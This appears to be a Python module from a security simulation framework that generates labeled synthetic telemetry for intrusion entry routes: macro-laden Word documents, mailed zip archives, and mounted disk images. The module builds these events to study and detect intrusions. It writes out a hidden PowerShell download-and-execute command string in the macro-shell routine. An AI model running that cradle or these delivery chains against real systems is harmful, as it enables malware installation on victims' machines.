"""Ways in: from something that the user opens to the first process that obeys the intruder.

Programs that merely carry the lure (the mail program, the browser, the shell that a user clicks in)
are bystanders and carry no label; the lure itself does.
"""

from __future__ import annotations

from collections.abc import Callable, Generator
from typing import TYPE_CHECKING

from lineage.simulate import names
from lineage.simulate.benign import office, web
from lineage.simulate.benign.boot import SYSTEM32
from lineage.simulate.intrusion.bystander import read_on

if TYPE_CHECKING:
    from lineage.simulate.facts import Process
    from lineage.simulate.intrusion.plan import Plan
    from lineage.simulate.machine import Machine

Entry = Generator[float, None, "Process"]
"""An activity that returns the first process that obeys the intruder."""


def macro_script_host(m: Machine, plan: Plan) -> Entry:
    """A mailed Word document whose macro drops a script and runs it with wscript."""
    word = yield from _open_document(m, plan)
    script = f"{m.home}\\AppData\\Local\\Temp\\{plan.script}"
    m.write(word, script, plan.label("script"))
    yield m.random.uniform(0.5, 3)
    engine = "" if plan.script.endswith((".vbs", ".js")) else "//E:vbscript "
    host = m.start(
        word,
        SYSTEM32 + "wscript.exe",
        f'wscript.exe //B {engine}"{script}"',
        label=plan.label("script host"),
    )
    m.resolve(host, plan.servers[0], plan.label("download"))
    yield m.random.uniform(1, 6)
    return host


def macro_shell(m: Machine, plan: Plan) -> Entry:
    """A mailed document whose macro starts a command prompt that starts PowerShell."""
    word = yield from _open_document(m, plan)
    yield m.random.uniform(0.5, 2)
    url = f"http://{plan.servers[0]}/{names.word(m.random)}.txt"
    fetch = f"IEX((New-Object Net.WebClient).DownloadString('{url}'))"
    shell = m.start(
        word,
        SYSTEM32 + "cmd.exe",
        f'cmd.exe /c powershell.exe -w hidden -nop -c "{fetch}"',
        label=plan.label("shell"),
    )
    image = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
    command = f'powershell.exe -w hidden -nop -c "{fetch}"'
    host = m.start(shell, image, command, label=plan.label("script host"))
    m.script(host, fetch, label=plan.label("download script"))
    m.resolve(host, plan.servers[0], plan.label("download"))
    yield m.random.uniform(1, 5)
    return host


def mail_archive(m: Machine, plan: Plan) -> Entry:
    """A mailed zip archive, whose program the user starts from the archive's window."""
    lure, folder = yield from _unpack_mailed_archive(m, plan)
    path = f"{folder}\\{lure}.exe"
    m.place(path, plan.payload)
    m.write(m.shell(), path, plan.label("dropper file"))
    yield m.random.uniform(0.3, 2)
    dropper = m.start(m.shell(), path, f'"{path}" ', label=plan.label("dropper"))
    yield m.random.uniform(1, 6)
    return dropper


def mail_archive_script(m: Machine, plan: Plan) -> Entry:
    """A mailed zip archive with a script, which the user opens."""
    lure, folder = yield from _unpack_mailed_archive(m, plan)
    path = f"{folder}\\{lure}.{m.random.choice(('js', 'vbs'))}"
    m.write(m.shell(), path, plan.label("script"))
    yield m.random.uniform(0.3, 2)
    host = m.start(
        m.shell(),
        SYSTEM32 + "wscript.exe",
        f'"{SYSTEM32}WScript.exe" "{path}" ',
        label=plan.label("script host"),
    )
    m.resolve(host, plan.servers[0], plan.label("download"))
    yield m.random.uniform(1, 6)
    return host


def disk_image(m: Machine, plan: Plan) -> Entry:
    """A downloaded disk image that the user mounts; inside, a shortcut starts the payload."""
    kind = m.random.choice(("iso", "img"))
    name = f"{plan.document}.{kind}"
    browser = m.start(m.shell(), web.EDGE, f'"{web.EDGE}"', lifetime=900)
    m.resolve(browser, names.domain(m.random), plan.label("delivery"))
    yield m.random.uniform(5, 30)
    m.write(browser, f"{m.home}\\Downloads\\{name}", plan.label("delivery"))
    yield m.random.uniform(5, 60)
    explorer = m.shell()
    recent = f"{m.home}\\AppData\\Roaming\\Microsoft\\Windows\\Recent\\{name}.lnk"
    m.write(explorer, recent, plan.label("image opened"))
    m.set(
        explorer,
        f"{m.hive}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\.{kind}\\0",
        "Binary Data",
        plan.label("image opened"),
    )
    yield m.random.uniform(2, 20)
    drive = m.random.choice("DEFG")
    path = f"{drive}:\\{plan.program}"
    m.place(path, plan.payload)
    shell = m.start(
        explorer,
        SYSTEM32 + "cmd.exe",
        f'"{SYSTEM32}cmd.exe" /c start {plan.program}',
        label=plan.label("shell"),
        directory=f"{drive}:\\",
        lifetime=1,
    )
    dropper = m.start(shell, path, plan.program, label=plan.label("dropper"))
    yield m.random.uniform(1, 6)
    return dropper


ENTRIES: dict[str, Callable[[Machine, Plan], Entry]] = {
    "macro-script-host": macro_script_host,
    "macro-shell": macro_shell,
    "mail-archive": mail_archive,
    "mail-archive-script": mail_archive_script,
    "disk-image": disk_image,
}
"""Every way in by its name."""


def _open_document(m: Machine, plan: Plan) -> Entry:
    outlook = office.outlook(m)
    yield m.random.uniform(5, 60)
    path = f"{office.attachment_folder(m)}\\{plan.document}.docm"
    m.write(outlook, path, plan.label("delivery"))
    yield m.random.uniform(2, 20)
    image = office.OFFICE + "WINWORD.EXE"
    word = m.start(
        outlook, image, f'"{image}" /n "{path}" /o ""', label=plan.label("document reader")
    )
    yield m.random.uniform(1, 3)
    office.opened(m, word, "Word", path)
    for library in ("VBE7.DLL", "VBE7INTL.DLL"):
        m.load(word, office.VBA + library, plan.label("macro engine"))
    m.begin(read_on(m, word))
    yield m.random.uniform(0.5, 4)
    return word


def _unpack_mailed_archive(m: Machine, plan: Plan) -> Generator[float, None, tuple[str, str]]:
    outlook = office.outlook(m)
    yield m.random.uniform(5, 60)
    archive = f"{plan.document}.zip"
    m.write(outlook, f"{office.attachment_folder(m)}\\{archive}", plan.label("delivery"))
    yield m.random.uniform(4, 40)
    return plan.document, f"{m.home}\\AppData\\Local\\Temp\\Temp1_{archive}"
